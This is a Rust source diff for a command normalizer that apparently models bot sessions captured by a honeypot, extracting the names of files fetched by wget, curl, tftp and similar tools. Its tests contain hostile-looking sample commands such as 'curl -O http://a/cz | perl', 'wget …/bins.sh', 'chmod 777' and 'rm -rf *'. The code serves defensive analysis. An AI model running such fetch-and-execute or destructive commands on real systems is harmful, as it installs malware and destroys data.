@@ -22,6 +22,24 @@ pub const STR: &str = "<STR>";
 /// A random-looking file or directory name.
 pub const RND: &str = "<RND>";
 
+/// How the data set writes a session's own IP address inside its commands; a live node sees
+/// the address itself, which is an [`IP`].
+const SRC_IP: &str = "<SRC_IP>";
+
+/// Programs whose arguments name files they fetch ([`Normalized::fetched`]).
+const FETCHERS: &[&str] = &[
+    "wget",
+    "curl",
+    "tftp",
+    "ftpget",
+    "sget",
+    "fetch",
+    "lwp-download",
+];
+
+/// Longest fetched file name remembered, in bytes.
+const MAX_NAME: usize = 64;
+
 /// A normalized command and the program it runs.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Normalized {
@@ -29,6 +47,11 @@ pub struct Normalized {
     pub token: String,
     /// The program of its first stage (`wget`), empty when none.
     pub program: String,
+    /// Names of the files the command fetches (`bins.sh` of `wget http://…/bins.sh`,
+    /// `tftp1.sh` of `tftp … -c get tftp1.sh`), as they appear in later commands' tokens.
+    /// The predictor refers to them by position, so `chmod 777 x.sh` after fetching `x.sh`
+    /// is learned as "chmod the first fetched file" whatever the campaign calls it.
+    pub fetched: Vec<String>,
 }
 
 /// The normalized commands of one input line (split on `;` and newlines outside quotes).
@@ -46,14 +69,53 @@ pub fn normalize_command(command: &Command) -> Normalized {
     Normalized {
         token: normalize_text(&command.text),
         program,
+        fetched: fetched_names(command),
     }
+}
+
+/// The file names a command's fetching stages name: URL and path basenames, and bare
+/// arguments that look like file names (`tftp1.sh`). Names the normalizer would replace by a
+/// placeholder anyway (`<RND>`, `<HEX>`) are left out: the token has no trace of them.
+fn fetched_names(command: &Command) -> Vec<String> {
+    let mut names: Vec<String> = Vec::new();
+    for stage in &command.stages {
+        if !FETCHERS.contains(&stage.program()) {
+            continue;
+        }
+        for arg in stage.args() {
+            if arg.starts_with('-') || is_ip(arg) {
+                continue;
+            }
+            let path = arg.split_once("://").map_or(arg.as_str(), |(_, rest)| {
+                rest.split_once('/').map_or("", |(_, path)| path)
+            });
+            let path = path.split(['?', '#']).next().unwrap_or("");
+            let name = if arg.contains('/') {
+                path.rsplit('/').next().unwrap_or("")
+            } else if arg.contains('.') {
+                arg.as_str()
+            } else {
+                ""
+            };
+            if !name.is_empty()
+                && name.len() <= MAX_NAME
+                && !name.contains(['<', '>', '$', '`', '\\', '\'', '"'])
+                && normalize_word(name) == name
+                && !names.iter().any(|n| n == name)
+            {
+                names.push(name.to_owned());
+            }
+        }
+    }
+    names
 }
 
 /// The normalized form of one command's text.
 pub fn normalize_text(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
     let mut word = String::new();
-    let mut chars = text.chars();
+    let text = text.replace(SRC_IP, "0.0.0.0");
+    let mut chars = without_line_end_escapes(&text).chars();
     let flush = |word: &mut String, out: &mut String| {
         if !word.is_empty() {
             if !out.is_empty() {
@@ -103,9 +165,25 @@ pub fn normalize_text(text: &str) -> String {
     out
 }
 
+/// `text` without trailing *literal* `\r` and `\n` escapes: some bots send a backslash and
+/// an `n` where they mean a line end (`rm -rf *\r\n`), and other builds of the same bot
+/// don't.
+fn without_line_end_escapes(mut text: &str) -> &str {
+    loop {
+        let trimmed = text.trim_end();
+        match trimmed
+            .strip_suffix("\\n")
+            .or_else(|| trimmed.strip_suffix("\\r"))
+        {
+            Some(rest) if !rest.ends_with('\\') => text = rest,
+            _ => return trimmed,
+        }
+    }
+}
+
 /// One whitespace-separated word, its volatile parts replaced.
 fn normalize_word(word: &str) -> String {
-    if word.contains("://") {
+    if word.contains("://") || is_bare_url(word) {
         return URL.to_owned();
     }
     if word.contains("\\x") && word.matches("\\x").count() >= 2 {
@@ -158,6 +236,26 @@ fn classify(part: &str) -> Option<&'static str> {
         return Some(RND);
     }
     None
+}
+
+/// A URL typed without its scheme: `host.name/path` or `1.2.3.4:8080/path` (a dotted host
+/// of letters, digits and dashes whose last label is a word, or an IP, then a slash).
+fn is_bare_url(word: &str) -> bool {
+    let Some((host, _)) = word.split_once('/') else {
+        return false;
+    };
+    if is_ip(host) {
+        return true;
+    }
+    let host = host.split_once(':').map_or(host, |(host, _)| host);
+    let labels: Vec<&str> = host.split('.').collect();
+    labels.len() >= 2
+        && labels
+            .iter()
+            .all(|l| !l.is_empty() && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
+        && labels
+            .last()
+            .is_some_and(|tld| tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()))
 }
 
 /// Dotted quad, optionally with `:port`.
@@ -241,6 +339,48 @@ mod tests {
     }
 
     #[test]
+    fn the_sessions_own_ip_line_end_escapes_and_bare_urls_are_normalized() {
+        assert_eq!(
+            tokens("tftp <SRC_IP> -c get t.sh"),
+            tokens("tftp 203.0.113.9 -c get t.sh")
+        );
+        assert_eq!(tokens(r"rm -rf *\r\n"), ["rm -rf *"]);
+        assert_eq!(
+            tokens(r"echo a\\n"),
+            [r"echo a\\n"],
+            "an escaped backslash stays"
+        );
+        assert_eq!(tokens("wget www.example.ro/c.txt"), ["wget <URL>"]);
+        assert_eq!(tokens("wget 198.51.100.4:81/x"), ["wget <URL>"]);
+        assert_eq!(
+            tokens("cat ./a.b/c"),
+            ["cat ./a.b/c"],
+            "a path is not a URL"
+        );
+    }
+
+    #[test]
+    fn fetching_commands_name_the_files_they_fetch() {
+        let fetched = |line: &str| -> Vec<Vec<String>> {
+            normalize_line(line)
+                .into_iter()
+                .map(|n| n.fetched)
+                .collect()
+        };
+        assert_eq!(
+            fetched(
+                "wget http://a/x/bins.sh?v=1; tftp 1.2.3.4 -c get t1.sh; \
+                 ftpget -v -P 21 1.2.3.4 f.sh f.sh; chmod 777 bins.sh"
+            ),
+            [vec!["bins.sh"], vec!["t1.sh"], vec!["f.sh"], vec![]]
+        );
+        assert_eq!(fetched("curl -O http://a/cz | perl"), [["cz"]]);
+        // A random name is a placeholder in every token already; a bare host has no file.
+        assert_eq!(fetched("wget http://a/a8Fk2qZ9x"), [Vec::<String>::new()]);
+        assert_eq!(fetched("wget http://a/"), [Vec::<String>::new()]);
+    }
+
+    #[test]
     fn hostile_input_does_not_panic() {
         for line in [
             "'",
@@ -250,6 +390,10 @@ mod tests {
             "////",
             "<>",
             "1.2.3.4.5",
+            "wget ://",
+            "wget a.b/",
+            "\\r\\n\\",
+            "tftp <SRC_IP>",
         ] {
             let _ = normalize_line(line);
         }
